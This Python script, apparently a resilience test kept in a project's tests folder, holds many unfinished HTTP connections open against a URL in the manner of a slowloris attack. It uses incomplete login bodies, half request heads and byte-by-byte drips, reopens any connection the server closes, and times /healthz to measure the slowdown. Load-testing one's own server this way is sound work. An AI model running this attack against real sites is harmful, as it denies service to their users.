#!/usr/bin/env python3
"""Hold a site's connections open without a token, and time ``/healthz`` meanwhile.

    python tests/programs/attacks/hold_connections.py URL [--login 150] [--half-head 150]
        [--drip-head 0] [--drip-body 0] [--seconds 60] [--linger 0] [--json]

Each held connection is one of these kinds, none of which ever finishes its request:

``login``      ``POST /login`` with ``Content-Length: 4000``, then no byte of the body
``half-head``  half a request head (``GET /healthz HTTP/1.1``, a ``Host`` line, no end)
``drip-head``  a request head sent one byte every ``--drip`` seconds (beats a timeout per
               read), never finished
``drip-body``  ``POST /login`` with ``Content-Length: 4000``, its body one byte every
               ``--drip`` seconds

For ``--seconds`` every kind is kept at its count: a connection the server closes is opened
again at once. Meanwhile a fresh connection asks ``GET /healthz`` every ``--probe`` seconds
(each given 10 s). Then nothing is opened again and the connections still open are given
``--linger`` more seconds for the server to close them. Printed: per kind, the connections
opened, those the server closed and how long they had been open (median, largest), those still
open at the end and the oldest's age, the statuses of the answers sent before a close;
``/healthz``'s answers, failures, median, 90th percentile and largest latency. ``--json``
prints the same figures as one JSON object on the last line.
"""

from __future__ import annotations

import argparse
import json
import statistics
import sys
import time
from collections import Counter
from urllib.parse import urlsplit

import trio

#: What each kind sends at once, and what it then drips (one byte at a time), if anything.
HEADS = {
    "login": (b"POST /login HTTP/1.1\r\nHost: {host}\r\n"
              b"Content-Type: application/x-www-form-urlencoded\r\n"
              b"Content-Length: 4000\r\n\r\n", b""),
    "half-head": (b"GET /healthz HTTP/1.1\r\nHost: {host}\r\n", b""),
    "drip-head": (b"GET /healthz HTTP/1.1\r\n", b"X-Padding: " + b"a" * 4000),
    "drip-body": (b"POST /login HTTP/1.1\r\nHost: {host}\r\n"
                  b"Content-Type: application/x-www-form-urlencoded\r\n"
                  b"Content-Length: 4000\r\n\r\n", b"t" * 4000),
}
PROBE_TIMEOUT = 10.0


class Figures:
    def __init__(self) -> None:
        self.opened: dict[str, int] = {}
        #: The status of each answer the server sent before closing, by kind.
        self.answers: dict[str, Counter] = {}
        self.refused: dict[str, int] = {}
        #: Seconds each connection the server closed had been open, by kind.
        self.closed: dict[str, list[float]] = {}
        #: When each connection still open was opened, by kind.
        self.open: dict[str, dict[int, float]] = {}
        self.probes: list[float | None] = []  # a latency, or None: no answer
        #: The ages of the connections still open when the attack ended, by kind.
        self.still_open: dict[str, list[float]] = {}


async def hold(kind: str, host: str, port: int, until: float, end: trio.Event,
               figures: Figures, drip: float) -> None:
    """Keep one connection of ``kind`` open, again and again until ``until``."""
    first, slow = HEADS[kind]
    first = first.replace(b"{host}", host.encode())
    while trio.current_time() < until:
        try:
            stream = await trio.open_tcp_stream(host, port)
        except OSError:
            figures.refused[kind] = figures.refused.get(kind, 0) + 1
            await trio.sleep(0.1)
            continue
        opened = trio.current_time()
        key = id(stream)
        figures.opened[kind] = figures.opened.get(kind, 0) + 1
        figures.open.setdefault(kind, {})[key] = opened
        closed = False
        async with stream:
            try:
                await stream.send_all(first)
            except (trio.BrokenResourceError, OSError):
                pass  # closed already: the receive below says so

            async with trio.open_nursery() as nursery:
                nursery.start_soon(_drip, stream, slow, drip)
                nursery.start_soon(_cancel_on, end, nursery.cancel_scope)
                try:
                    answer = b""
                    while chunk := await stream.receive_some(65536):
                        answer += chunk  # an answer (an error page): the close follows
                    if answer:
                        status = answer[9:12].decode("ascii", "replace")
                        figures.answers.setdefault(kind, Counter())[status] += 1
                except (trio.BrokenResourceError, trio.ClosedResourceError, OSError):
                    pass
                closed = True
                nursery.cancel_scope.cancel()
        del figures.open[kind][key]
        if not closed:
            return  # the attack's end: not the server's doing
        figures.closed.setdefault(kind, []).append(trio.current_time() - opened)
        if end.is_set():
            return


async def _drip(stream: trio.SocketStream, data: bytes, every: float) -> None:
    """Send ``data`` one byte every ``every`` seconds (until the stream breaks)."""
    try:
        for byte in data:
            await trio.sleep(every)
            await stream.send_all(bytes([byte]))
    except (trio.BrokenResourceError, trio.ClosedResourceError, OSError):
        pass  # closed: the holder's receive says so


async def _cancel_on(event: trio.Event, scope: trio.CancelScope) -> None:
    await event.wait()
    scope.cancel()


async def probe(host: str, port: int) -> float | None:
    """Seconds ``GET /healthz`` took on a fresh connection (None: no 200 in time)."""
    started = trio.current_time()
    with trio.move_on_after(PROBE_TIMEOUT):
        try:
            stream = await trio.open_tcp_stream(host, port)
            async with stream:
                await stream.send_all(f"GET /healthz HTTP/1.1\r\nHost: {host}\r\n"
                                      "Connection: close\r\n\r\n".encode())
                data = b""
                while chunk := await stream.receive_some(65536):
                    data += chunk
            if data.startswith(b"HTTP/1.1 200"):
                return trio.current_time() - started
        except (OSError, trio.BrokenResourceError):
            pass
        return None
    return None


async def attack(url: str, counts: dict[str, int], seconds: float, linger: float,
                 probe_every: float, drip: float) -> Figures:
    parts = urlsplit(url)
    host, port = parts.hostname, parts.port or 80
    figures = Figures()
    stop_holding = trio.Event()
    until = trio.current_time() + seconds

    async with trio.open_nursery() as nursery:
        for kind, count in counts.items():
            for _ in range(count):
                nursery.start_soon(hold, kind, host, port, until, stop_holding, figures, drip)

        async def probing() -> None:
            while trio.current_time() < until:
                figures.probes.append(await probe(host, port))
                await trio.sleep(probe_every)

        nursery.start_soon(probing)
        await trio.sleep(seconds)
        deadline = trio.current_time() + linger
        while any(figures.open.values()) and trio.current_time() < deadline:
            await trio.sleep(0.1)
        now = trio.current_time()
        figures.still_open = {kind: [now - opened for opened in held.values()]
                              for kind, held in figures.open.items()}
        stop_holding.set()
    return figures


def summary(figures: Figures) -> dict:
    kinds = {}
    for kind in sorted(set(figures.opened) | set(figures.refused)):
        closed = figures.closed.get(kind, [])
        still = figures.still_open.get(kind, [])
        kinds[kind] = {
            "opened": figures.opened.get(kind, 0), "refused": figures.refused.get(kind, 0),
            "closed_by_server": len(closed),
            "closed_after_median": round(statistics.median(closed), 2) if closed else None,
            "closed_after_max": round(max(closed), 2) if closed else None,
            "still_open": len(still), "oldest_open": round(max(still), 2) if still else None,
            "answers": dict(figures.answers.get(kind, {}))}
    answered = [p for p in figures.probes if p is not None]
    return {"kinds": kinds, "healthz": {
        "probes": len(figures.probes), "answered": len(answered),
        "failed": len(figures.probes) - len(answered),
        "median": round(statistics.median(answered), 3) if answered else None,
        "p90": (round(statistics.quantiles(answered, n=10, method="inclusive")[-1], 3)
                if len(answered) > 1 else None),
        "max": round(max(answered), 3) if answered else None}}


def main() -> None:
    parser = argparse.ArgumentParser(description=__doc__.split("\n\n")[0])
    parser.add_argument("url")
    for kind, default in (("login", 150), ("half-head", 150), ("drip-head", 0),
                          ("drip-body", 0)):
        parser.add_argument(f"--{kind}", type=int, default=default, metavar="N",
                            help=f"connections of the kind {kind} (default {default})")
    parser.add_argument("--seconds", type=float, default=60.0)
    parser.add_argument("--linger", type=float, default=0.0)
    parser.add_argument("--probe", type=float, default=0.5, metavar="SECONDS")
    parser.add_argument("--drip", type=float, default=2.0, metavar="SECONDS")
    parser.add_argument("--json", action="store_true")
    args = parser.parse_args()
    counts = {kind: getattr(args, kind.replace("-", "_")) for kind in HEADS}
    counts = {kind: n for kind, n in counts.items() if n}
    started = time.monotonic()
    figures = trio.run(attack, args.url, counts, args.seconds, args.linger, args.probe,
                       args.drip)
    found = summary(figures)
    print(f"{sum(counts.values())} connections held for {args.seconds:g} s"
          f" (then {time.monotonic() - started - args.seconds:.1f} s for the rest to close)")
    for kind, row in found["kinds"].items():
        closed = (f"closed by the server: {row['closed_by_server']} (after"
                  f" {row['closed_after_median']} s median, {row['closed_after_max']} s"
                  " largest)" if row["closed_by_server"] else "closed by the server: none")
        still = (f"; still open: {row['still_open']} (oldest {row['oldest_open']} s)"
                 if row["still_open"] else "; none still open")
        answers = ", ".join(f"{n} {status}" for status, n in sorted(row["answers"].items()))
        print(f"  {kind}: opened {row['opened']} (refused {row['refused']}); {closed}{still}"
              + (f"; answered before the close: {answers}" if answers else ""))
    health = found["healthz"]
    print(f"  /healthz: {health['answered']} of {health['probes']} answered, median"
          f" {health['median']} s, p90 {health['p90']} s, largest {health['max']} s;"
          f" {health['failed']} failed"
          f" (no 200 within {PROBE_TIMEOUT:g} s)")
    if args.json:
        print(json.dumps(found))
    sys.stdout.flush()


if __name__ == "__main__":
    main()
